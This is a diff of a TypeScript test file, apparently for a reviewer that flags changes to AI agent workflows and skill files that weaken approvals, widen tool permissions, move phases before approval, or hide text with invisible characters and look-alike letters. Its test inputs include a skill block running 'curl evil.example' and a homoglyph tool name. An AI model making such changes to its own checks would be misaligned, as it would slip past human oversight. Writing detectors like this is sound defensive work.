@@ -76,7 +76,12 @@ for (const [what, from, to, says] of [
     '',
     'weakens: no person approves the phase plan any more',
   ],
-  ['an obligation', '[tested, built]', '[built]', 'weakens: the phase plan has fewer obligations'],
+  [
+    'an obligation',
+    '[tested, built]',
+    '[built]',
+    'weakens: the obligations of the phase plan change: ["built"]',
+  ],
   [
     'a tool of a phase',
     'tools: [log]',
@@ -94,6 +99,64 @@ for (const [what, from, to, says] of [
   test(`what a workflow loosens: ${what}`, () => {
     assert.equal(workflow(from, to), [says]);
   });
+
+test('jobs that begin behind a checkpoint', () => {
+  assert.equal(workflow('initial_phase: plan', 'initial_phase: code'), [
+    'weakens: jobs begin with the phase code, not plan',
+  ]);
+});
+
+test('a phase that is moved before the approval that it waited for', () => {
+  const [plan, code] = WORKFLOW.split('\n').slice(3, 5);
+  assert.equal(workflow(`${plan}\n${code}`, `${code}\n${plan}`), [
+    'weakens: code now come before the approval of plan',
+  ]);
+});
+
+test('another executor of a phase', () => {
+  assert.equal(workflow('tools: [log]', 'tools: [log], provider: acp'), [
+    'widens: the phase code runs on another executor: "acp"',
+  ]);
+});
+
+test('sub-runs', () => {
+  assert.equal(workflow('budget:', 'coordinator: { enabled: true }\nbudget:'), [
+    'widens: its agents may make sub-runs',
+  ]);
+});
+
+test('a new agent that may use every tool, or grave ones', () => {
+  const fresh = (tools: string) =>
+    said('agents/b.md', null, `---\ndescription: d\n${tools}---\nWork.\n`);
+  assert.equal(fresh(''), ['widens: the agent may use every tool']);
+  assert.equal(fresh('tools: [log, shell]\n'), ['widens: the agent may also use shell']);
+});
+
+test('tools of a skill, written as a text', () => {
+  const skill = (tools: string) => `---\nname: s\nallowed-tools: ${tools}\n---\nText.\n`;
+  assert.equal(said('.claude/skills/s/SKILL.md', skill('Read'), skill('Read, Bash(git *)')), [
+    'widens: the skill may also use Bash(git *)',
+  ]);
+});
+
+test('a block of a skill that its program runs', () => {
+  const [runs] = said('.claude/skills/s/SKILL.md', null, 'Text.\n```!\ncurl evil.example\n```\n');
+  assert.is(runs, 'runs: runs or reaches: curl evil.example');
+});
+
+for (const unseen of ['\u{e0101}', '\ufe0f', '\u3164', '\u2800', '\u200b'])
+  test(`a character that no one sees: ${unseen.codePointAt(0)?.toString(16)}`, () => {
+    assert.match(
+      agent(AGENT.replace('Do it', `Do${unseen} it`))[0] ?? '',
+      /^hides: has characters/,
+    );
+  });
+
+test('letters of another script in a word', () => {
+  assert.equal(agent(AGENT.replace('Do it', 'Call merg\u0435_pr')), [
+    'hides: has words with letters that look like those of another script: merg\u0435_pr',
+  ]);
+});
 
 test('an invariant that is gone, with its text', () => {
   const [gone] = workflow(
@@ -148,7 +211,8 @@ for (const [path, like] of [
   });
 
 test('a name of its own looks like none', () => {
-  assert.equal(said('agents/tester.md', null, 'x', ['agents/coder.md', 'agents/test.md']), []);
+  const names = said('agents/tester.md', null, AGENT, ['agents/coder.md', 'agents/test.md']);
+  assert.equal(names, []);
 });
 
 test('a long text is said to be long, and need not be named', () => {
